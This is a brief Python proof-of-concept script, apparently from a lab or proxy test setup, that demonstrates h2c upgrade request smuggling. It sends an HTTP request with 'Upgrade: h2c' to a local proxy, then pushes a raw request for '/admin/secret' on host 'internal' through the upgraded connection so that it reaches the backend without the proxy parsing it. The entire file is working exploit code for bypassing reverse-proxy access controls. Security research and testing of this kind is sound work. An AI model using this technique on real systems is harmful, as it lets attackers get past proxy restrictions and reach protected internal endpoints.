import lib, socket, time
b = lib.Backend(37100)
s = socket.create_connection(("127.0.0.1", 37001)); s.settimeout(2)
s.sendall(b"GET /ws101 HTTP/1.1\r\nHost: x\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n")
time.sleep(0.3); print(s.recv(4096))
s.sendall(b"GET /admin/secret HTTP/1.1\r\nHost: internal\r\n\r\n"); time.sleep(0.3)
print("after 101, raw bytes reach backend unparsed by proxy:", s.recv(4096))
